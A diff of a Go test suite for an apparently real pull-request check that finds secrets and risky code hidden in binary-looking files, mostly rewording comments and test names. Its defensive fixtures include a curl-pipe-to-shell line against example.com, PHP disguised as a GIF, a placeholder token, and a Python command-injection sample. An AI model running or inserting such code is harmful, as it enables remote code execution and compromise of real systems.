@@ -15,7 +15,7 @@ import (
 // token is a secret's form, with a value that was never given out.
 const token = "ghp_" + "k3Jx9QvT7bLm2RwZ5yHc8NdP4sFgA6eUoXiB"
 
-// units writes a text in units of two or four bytes.
+// units encodes a text in units of two or four bytes.
 func units(order binary.AppendByteOrder, size int, text string) string {
 	var out []byte
 	for _, c := range utf16.Encode([]rune(text)) {
@@ -28,7 +28,7 @@ func units(order binary.AppendByteOrder, size int, text string) string {
 	return string(out)
 }
 
-// noise is data that nobody can read.
+// noise is data that is not text in any encoding.
 func noise(n int) string {
 	r := rand.New(rand.NewPCG(3, 4))
 	b := make([]byte, n)
@@ -40,28 +40,28 @@ func noise(n int) string {
 
 const picture = "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01"
 
-// hiddenTexts are texts that git and GitHub take for binary, each with a secret or with
-// code that a rule finds, and what the check says of it.
+// hiddenTexts are texts that git and GitHub take for binary. Each contains a secret or code
+// that a rule finds. The last field is what the check says about it.
 func hiddenTexts() map[string]struct{ path, text, says string } {
 	const secret = "[db]\nkey = " + token + "\n"
 	const script = "#!/bin/sh\ncurl -k https://example.com/install.sh | sh\n"
 	return map[string]struct{ path, text, says string }{
-		"a NUL after the end of a script":     {"deploy.sh", script + "\x00", "deploy.sh:2"},
-		"a NUL in an environment file":        {".env", "A=b\nTOKEN=" + token + "\n\x00", ".env:2"},
-		"a NUL in a secret":                   {".env", "TOKEN=" + token[:9] + "\x00" + token[9:] + "\n", ".env:1"},
-		"UTF-16LE settings with a mark":       {"app.ini", units(binary.LittleEndian, 2, "\ufeff"+secret), "app.ini:2"},
-		"UTF-16BE properties without a mark":  {"app.properties", units(binary.BigEndian, 2, secret), "app.properties:2"},
-		"UTF-32 prose":                        {"notes.txt", units(binary.LittleEndian, 4, "\ufeff"+secret), "notes.txt:2"},
-		"UTF-32BE without a mark":             {"notes.cfg", units(binary.BigEndian, 4, secret), "notes.cfg:2"},
-		"Latin-1 with a NUL":                  {"seed.sql", "-- gr\xf6\xdfe\x00\n-- " + token + "\n", "seed.sql:2"},
-		"Latin-1":                             {"seed.sql", "-- gr\xf6\xdfe\n-- " + token + "\n", "seed.sql:2"},
-		"a picture that is code":              {"logo.php", "GIF89a\x00<?php\n$key = '" + token + "';\n", "logo.php:2"},
-		"a picture by its name that is code":  {"logo.gif", "GIF89a\x00<?php\n$key = '" + token + "';\n", "logo.gif:2"},
-		"a script that is Chinese in UTF-16":  {"tool", "#\ncu" + units(binary.LittleEndian, 2, "rl -k https://example.com/install.sh | sh\n"), "tool:"},
-		"an extension that nobody knows":      {"deploy.xyz", "key = " + token + "\n\x00", "deploy.xyz:1"},
-		"an unknown format":                   {"data.xyz", noise(3000) + "\x00\n" + token + "\n" + noise(3000), "data.xyz"},
-		"an unknown format, in UTF-16":        {"data.xyz", noise(3000) + "\n" + units(binary.LittleEndian, 2, "\n"+token+"\n") + noise(3000), "data.xyz"},
-		"a real picture with a secret behind": {"logo.png", picture + noise(3000) + "\n" + token + "\n", "logo.png"},
+		"a NUL after the end of a script":       {"deploy.sh", script + "\x00", "deploy.sh:2"},
+		"a NUL in an environment file":          {".env", "A=b\nTOKEN=" + token + "\n\x00", ".env:2"},
+		"a NUL in a secret":                     {".env", "TOKEN=" + token[:9] + "\x00" + token[9:] + "\n", ".env:1"},
+		"UTF-16LE settings with a mark":         {"app.ini", units(binary.LittleEndian, 2, "\ufeff"+secret), "app.ini:2"},
+		"UTF-16BE properties without a mark":    {"app.properties", units(binary.BigEndian, 2, secret), "app.properties:2"},
+		"UTF-32 prose":                          {"notes.txt", units(binary.LittleEndian, 4, "\ufeff"+secret), "notes.txt:2"},
+		"UTF-32BE without a mark":               {"notes.cfg", units(binary.BigEndian, 4, secret), "notes.cfg:2"},
+		"Latin-1 with a NUL":                    {"seed.sql", "-- gr\xf6\xdfe\x00\n-- " + token + "\n", "seed.sql:2"},
+		"Latin-1":                               {"seed.sql", "-- gr\xf6\xdfe\n-- " + token + "\n", "seed.sql:2"},
+		"code that starts like a picture":       {"logo.php", "GIF89a\x00<?php\n$key = '" + token + "';\n", "logo.php:2"},
+		"code with a picture's name and start":  {"logo.gif", "GIF89a\x00<?php\n$key = '" + token + "';\n", "logo.gif:2"},
+		"a script that is Chinese in UTF-16":    {"tool", "#\ncu" + units(binary.LittleEndian, 2, "rl -k https://example.com/install.sh | sh\n"), "tool:"},
+		"an unknown extension":                  {"deploy.xyz", "key = " + token + "\n\x00", "deploy.xyz:1"},
+		"an unknown format":                     {"data.xyz", noise(3000) + "\x00\n" + token + "\n" + noise(3000), "data.xyz"},
+		"an unknown format, in UTF-16":          {"data.xyz", noise(3000) + "\n" + units(binary.LittleEndian, 2, "\n"+token+"\n") + noise(3000), "data.xyz"},
+		"a real picture with a secret after it": {"logo.png", picture + noise(3000) + "\n" + token + "\n", "logo.png"},
 	}
 }
 
@@ -84,9 +84,9 @@ func TestHiddenTextIsRead(t *testing.T) {
 	}
 }
 
-// Bytes that nobody can read gate where the name, the mode or the first line says that
-// they are text, and are named elsewhere.
-func TestBytesThatNobodyCanRead(t *testing.T) {
+// Unreadable bytes hold the gate where the name, the mode or the first line says that the
+// file is text. Elsewhere the check only names them.
+func TestUnreadableBytes(t *testing.T) {
 	t.Parallel()
 	for name, tt := range sample.Map(t, 4, map[string]struct {
 		path, text, conclusion string
@@ -95,7 +95,7 @@ func TestBytesThatNobodyCanRead(t *testing.T) {
 		"a picture":                       {"logo.png", picture + noise(3000), "success", false},
 		"an unknown format":               {"data.xyz", noise(3000) + "\x00", "success", true},
 		"the beginning of another format": {"logo.gif", picture + noise(3000), "success", true},
-		"a picture that runs":             {"logo.png", ghtest.Executable(picture + noise(3000)), "action_required", true},
+		"an executable picture":           {"logo.png", ghtest.Executable(picture + noise(3000)), "action_required", true},
 		"a script's first line":           {"tool", "#!/bin/sh\n" + noise(3000) + "\x00", "action_required", true},
 		"a script's name":                 {"tool.sh", noise(3000) + "\x00", "action_required", true},
 		"settings":                        {".env", noise(3000) + "\x00", "action_required", true},
@@ -113,8 +113,8 @@ func TestBytesThatNobodyCanRead(t *testing.T) {
 	}
 }
 
-// The content behind a Git LFS pointer is not read, which gates until the base says
-// that it is binary.
+// The content behind a Git LFS pointer is not read. That holds the gate until the base
+// declares the file binary.
 func TestContentBehindAPointer(t *testing.T) {
 	t.Parallel()
 	w := start(t)
@@ -131,12 +131,12 @@ func TestContentBehindAPointer(t *testing.T) {
 	tracked := w.Repo.OpenPR(ghtest.PR{Title: "feat: stock", Body: apptest.GoodBody, Head: "drawing", Files: ghtest.Files{"logo.psd": pointer("b")}})
 	w.Idle()
 	if c := w.Check(tracked); c.Conclusion != "success" || !strings.Contains(c.Summary+c.Text, "Git LFS pointer") {
-		t.Errorf("of a tracked file the check is %s (%s):\n%s\n%s", c.Conclusion, c.Title, c.Summary, c.Text)
+		t.Errorf("the check of a tracked file is %s (%s):\n%s\n%s", c.Conclusion, c.Title, c.Summary, c.Text)
 	}
 }
 
-// Of a file that was there before only what the change adds is judged.
-func TestHiddenTextThatWasThere(t *testing.T) {
+// In a file that existed before, only the added text is judged.
+func TestHiddenTextFromBeforeTheChange(t *testing.T) {
 	sample.Variant(t)
 	t.Parallel()
 	w := start(t)
@@ -150,9 +150,8 @@ func TestHiddenTextThatWasThere(t *testing.T) {
 	}
 }
 
-// What the base's .gitattributes call binary need not be read. What the change itself
-// says of it counts for nothing, and once it is merged open pull requests are looked at
-// again.
+// Files that the base's .gitattributes declare binary need not be read. The change's own
+// .gitattributes do not count. Once they are merged, open pull requests are reviewed again.
 func TestBinaryByTheBasesAttributes(t *testing.T) {
 	t.Parallel()
 	w := start(t)
@@ -175,8 +174,8 @@ func TestBinaryByTheBasesAttributes(t *testing.T) {
 	w.Wants(other, "action_required", "models/tool.sh")
 }
 
-// What the base's .gitleaks.toml allows is redacted, listed and no finding. What the
-// change itself brings of it counts for nothing.
+// Secrets that the base's .gitleaks.toml allows are redacted and listed, and are not
+// findings. Entries that the change itself adds do not count.
 func TestSecretsThatGitleaksConfigAllows(t *testing.T) {
 	t.Parallel()
 	w := start(t)
@@ -200,8 +199,8 @@ func TestSecretsThatGitleaksConfigAllows(t *testing.T) {
 	}
 }
 
-// A file that is renamed to where its text does something is read as a whole, though no
-// line of it changes. What only moves is not.
+// A renamed file is read in full if its new name makes its text take effect, although no line
+// changes. A file that only moves is not.
 func TestRenamedIntoUse(t *testing.T) {
 	t.Parallel()
 	const evil = "import os\n\ndef run(request):\n    os.system('ls ' + request.args['dir'])\n"
